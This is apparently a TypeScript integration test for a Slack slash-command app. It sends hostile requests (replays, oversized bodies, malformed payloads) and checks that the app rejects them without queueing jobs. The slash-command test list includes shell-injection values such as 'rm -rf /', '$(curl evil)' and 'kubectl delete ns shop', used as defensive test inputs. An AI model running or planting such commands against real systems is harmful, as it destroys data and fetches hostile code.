/**
 * Hostile Slack requests against the real app (in-process, private Redis): replays
 * inside the 5-minute window, oversized bodies, and command text carrying control
 * characters or shell metacharacters. Jobs are counted in Redis. (Bad signatures and
 * stale/future timestamps are covered in test/integration/slack-app.test.ts.)
 *
 * Slack retries nothing for slash commands and Bolt keeps no replay cache, so a
 * byte-identical request replayed within the window passes the signature check: the
 * deterministic job id is what makes it join the same run instead of starting another.
 */
import { Queue } from 'bullmq';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { AppRuntime } from '../../src/app/runtime.js';
import { startTestApp } from '../support/app-bootstrap.js';
import { createLogger } from '../../src/logger.js';
import { QUEUE_PREFIX, diagnoseQueueName } from '../../src/queue/names.js';
import { startRedis, type TestRedis } from '../support/redis.js';
import { postSigned, signedHeaders, slashCommandBody } from '../support/slack-sign.js';
import { startSlackStandin, type SlackStandin } from '../support/slack-standin.js';

const SECRET = 'hostile-secret';
const TOKEN = 'xoxb-hostile';

let redis: TestRedis;
let slack: SlackStandin;
let app: AppRuntime;
let events: string;
let queue: Queue;

beforeAll(async () => {
  redis = await startRedis();
  slack = await startSlackStandin({ botToken: TOKEN });
  ({ app, events } = await startTestApp({
    slack,
    redisUrl: redis.url,
    secret: SECRET,
    token: TOKEN,
    env: {
      // Anyone may diagnose: these tests are not about the read policy (test/hostile/slack-permissions.test.ts is).
      ROLLOUT_DOCTOR_READERS: '*',
      LOG_LEVEL: 'silent',
    },
    logger: createLogger({ level: 'silent', name: 'hostile' }),
  }));
  queue = new Queue(diagnoseQueueName('default'), { connection: { url: redis.url }, prefix: QUEUE_PREFIX });
});

afterAll(async () => {
  await queue?.close();
  await app?.stop();
  await slack?.close();
  await redis?.close();
});

const jobs = async (): Promise<number> => (await queue.getJobs(['waiting', 'active', 'delayed'])).length;

describe('hostile Slack requests', () => {
  it('a replay inside the window joins the same job; nothing new is queued', async () => {
    const body = slashCommandBody({ text: 'web -n shop' });
    const ts = Math.floor(Date.now() / 1000) - 120;
    const first = await postSigned(events, SECRET, body, ts);
    const replay = await postSigned(events, SECRET, body, ts);
    expect([first.status, replay.status]).toEqual([200, 200]);
    expect(await jobs()).toBe(1);
    expect(await queue.getJob('diagnose.shop.web')).toBeDefined();
    await slack.waitFor((s) =>
      s.callsOf('chat.postMessage').some((c) => String(c.args.text).includes('joining')),
    );
  });

  it('refuses an oversized body without queueing and keeps serving', async () => {
    const body = slashCommandBody({ text: `web -n shop ${'x'.repeat(2 * 1024 * 1024)}` });
    const res = await fetch(events, { method: 'POST', headers: signedHeaders(SECRET, body), body }).catch(
      (error: unknown) => ({ status: 0, error }),
    );
    // Either a clear 4xx, or the body is parsed and answered with the usage text; never a job.
    if (res.status === 200) expect(await (res as Response).text()).toContain('Usage');
    else expect(res.status === 0 || (res.status >= 400 && res.status < 500)).toBe(true);
    expect(await jobs()).toBe(1);
    expect((await fetch(`${app.handle.url}/healthz`)).status).toBe(200);
  });

  it('answers control characters, shell metacharacters and non-DNS names with the usage; no job', async () => {
    for (const text of [
      'web;rm -rf / -n shop',
      '$(curl evil) -n shop',
      'web -n `id`',
      'web\u0000 -n shop',
      'web\u001b[2J -n shop',
      'Web_App -n shop',
      'web -n Shop',
      'web -n shop --cluster "prod"',
      'web | kubectl delete ns shop',
    ]) {
      const res = await postSigned(events, SECRET, slashCommandBody({ text }));
      expect(res.status, text).toBe(200);
      const json = JSON.parse(res.body) as { response_type: string; text: string };
      expect(json.response_type).toBe('ephemeral');
      expect(json.text).toContain('Usage');
    }
    expect(await jobs()).toBe(1);
  });

  it('answers a non-form body and a signed body without a command with a 4xx or ack, never a job', async () => {
    for (const body of ['{"command":"/rollout-doctor","text":"web"}', 'payload=%7Bnot-json', '']) {
      const res = await postSigned(events, SECRET, body);
      expect(res.status).toBeLessThan(500);
    }
    expect(await jobs()).toBe(1);
  });

  // Bolt read these unguarded: `payload=null` and a JSON `null` threw in a promise nobody
  // awaited and ended the process; the others were 500s or held for 3 s, then 404.
  it('answers a signed body that is not a request this app serves with 400, at once, and keeps serving', async () => {
    const click = (payload: unknown): string =>
      new URLSearchParams({ payload: JSON.stringify(payload) }).toString();
    // A press as Slack sends it, but for the one field each case breaks.
    const press = {
      type: 'block_actions',
      user: { id: 'U0001' },
      actions: [{ action_id: 'dismiss_result', type: 'button' }],
      container: { type: 'message', channel_id: 'C0001', message_ts: '1.2' },
    };
    const { container: _container, ...noContainer } = press;
    const cases: [string, string, string?][] = [
      ['payload=null', 'payload=null'],
      ['JSON null', 'null', 'application/json'],
      ['JSON list', '[1,2]', 'application/json'],
      ['user null', click({ ...press, user: null })],
      ['actions not a list', click({ ...press, actions: { action_id: 'x' } })],
      ['no action', click({ ...press, actions: [] })],
      ['action id a number', click({ ...press, actions: [{ action_id: 7, type: 'button' }] })],
      ['channel null', click({ ...press, channel: null })],
      // clickContext reads the channel from the container when `channel` is absent.
      ['no channel, no container', click(noContainer)],
      ['a modal submission', click({ type: 'view_submission', user: { id: 'U0001' }, view: null })],
      ['an event', '{"type":"event_callback","event":null}', 'application/json'],
      ['a command without text', slashCommandBody({ text: 'web' }).replace(/&text=web/, '')],
      ['text twice', `${slashCommandBody({ text: 'web -n shop' })}&text=other`],
    ];
    for (const [name, body, type] of cases) {
      const headers = { ...signedHeaders(SECRET, body), ...(type ? { 'content-type': type } : {}) };
      const res = await fetch(events, { method: 'POST', headers, body });
      expect(res.status, name).toBe(400);
    }
    // The press each case breaks is served as it is (acked).
    const whole = click(press);
    expect(
      (await fetch(events, { method: 'POST', headers: signedHeaders(SECRET, whole), body: whole })).status,
    ).toBe(200);
    // Unsigned, whatever it holds: Bolt's bare 401, as for any unsigned request.
    const unsigned = await fetch(events, {
      method: 'POST',
      headers: { ...signedHeaders('another-secret', 'payload=null') },
      body: 'payload=null',
    });
    expect(unsigned.status).toBe(401);
    expect((await fetch(`${app.handle.url}/healthz`)).status).toBe(200);
    expect(await jobs()).toBe(1);
  });
});
